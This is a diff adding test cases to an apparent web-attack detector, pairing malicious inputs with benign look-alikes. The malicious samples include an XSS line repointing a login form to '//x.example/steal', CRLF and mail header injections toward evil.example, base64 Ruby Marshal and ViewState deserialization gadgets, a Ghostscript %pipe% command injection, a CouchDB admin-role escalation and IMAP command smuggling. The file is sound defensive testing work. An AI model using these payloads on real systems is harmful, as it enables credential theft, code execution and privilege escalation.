@@ -548,6 +548,8 @@ fn xss_through_comments_brackets_templates_and_encodings() {
             "self[\"\\x24\"]",
             "[].sort.call`${alert}1337`",
             "document.querySelector(\"p\").textContent=\"XSS\"",
+            "document.getElementById('login').action='//x.example/steal'",
+            "document.getElementsByTagName('form')[0].submit()",
             "!![]",
             "(![]+[])[+[]]",
             "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
@@ -560,6 +562,8 @@ fn xss_through_comments_brackets_templates_and_encodings() {
             "![](image.png)",
             "call me maybe",
             "C++ADw is not a thing",
+            "<p>Mount the app with <code>document.getElementById('app')</code> and call <code>render()</code> once the DOM is ready.</p>",
+            "use document.querySelectorAll('.card') to get a NodeList",
         ],
     );
 }
@@ -1173,6 +1177,21 @@ fn header_injection_through_body_fields_and_truncated_cjk_line_breaks() {
             "/a/嘊Location: http://example.net",
         ],
         &["/嘍/location", "/docs/嘊"],
+    );
+    table(
+        "crlf",
+        FieldKind::CookieValue,
+        &[
+            "x\nSet-Cookie: sid=1",
+            "x\r\nAnything: 1",
+            "x\nLocation: https://evil.example/",
+            "x\nX-Forwarded-Host: evil.example",
+        ],
+        &[
+            "Q: How long do I boil eggs?\nA: 6 minutes, then ice bath.",
+            "services:\n  db:\n    image: postgres:15",
+            "Contact: mailto:security@example.com\nExpires: 2025-12-31T23:00:00.000Z",
+        ],
     );
 }
 
@@ -2882,5 +2901,74 @@ fn struts_context_maps_and_the_nextjs_middleware_bypass() {
             "Express middleware: cors, helmet, morgan",
             "middleware:auth",
         ],
+    );
+}
+
+#[test]
+fn gadgets_in_base64_and_hex_ghostscript_pipes_couchdb_roles_lucene_and_imap() {
+    // Ruby Marshal's universal gadget and a LosFormatter ViewState, as exploit tools emit them.
+    table(
+        "java",
+        Q,
+        &[
+            "BAhbB2MVR2VtOjpTcGVjRmV0Y2hlcm86FUdlbTo6UmVxdWlyZW1lbnQGOhJAcmVxdWlyZW1lbnRz",
+            "/wEyvQcAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg==",
+            "__VIEWSTATE=/wEyvQcAAQAAAP////8BAAAAAAAAAAwCAAAA",
+        ],
+        &[
+            // A Rails cookie-store session (Marshal of a Hash), ordinary page state.
+            "BAh7CEkiD3Nlc3Npb25faWQGOgZFVEkiRTM2YTU0YjJhMzM0ODk1ZTFmZTQ5",
+            "/wEPDwUKLTkyMTY0MDA1MmRkZ7Kx",
+            "/wEWAgKOsPfSCQLOyvXZBg==",
+        ],
+    );
+    table(
+        "evasion",
+        Q,
+        &[
+            "635f5f6275696c74696e5f5f0a6576616c0a28565f5f696d706f72745f5f2827",
+            "2F6574632F706173737764",
+        ],
+        &[
+            "5f4dcc3b5aa765d61d8327deb882cf99",
+            "a3f5c9e1b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2",
+        ],
+    );
+    table(
+        "cmdi",
+        Q,
+        &[
+            "%!PS userdict /setpagedevice undef save mark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops",
+        ],
+        &["the %pipe% device of Ghostscript is disabled with -dSAFER"],
+    );
+    table(
+        "nosql",
+        Q,
+        &[
+            "{\"type\":\"user\",\"name\":\"x\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"p\"}",
+            "*) OR _exists_:password OR (title:*",
+        ],
+        &[
+            "{\"roles\":[\"editor\"]}",
+            "_exists_:title AND status:published",
+        ],
+    );
+    table(
+        "mail",
+        Q,
+        &[
+            "INBOX\"\r\nA0003 DELETE \"INBOX",
+            "x\r\na1 LOGIN admin secret",
+            "Support Team\u{85}Reply-To: attacker@evil.example",
+            "Team\u{2028}Bcc: list@evil.example",
+        ],
+        &["INBOX", "Line 1\r\n2 select options below"],
+    );
+    table(
+        "graphql",
+        FieldKind::BodyValue,
+        &["query\n#legit search\n{\n  __schema\n  #x\n  ,,,\n  {,,types\t{name}}\n}"],
+        &["the __schema field of the spec"],
     );
 }
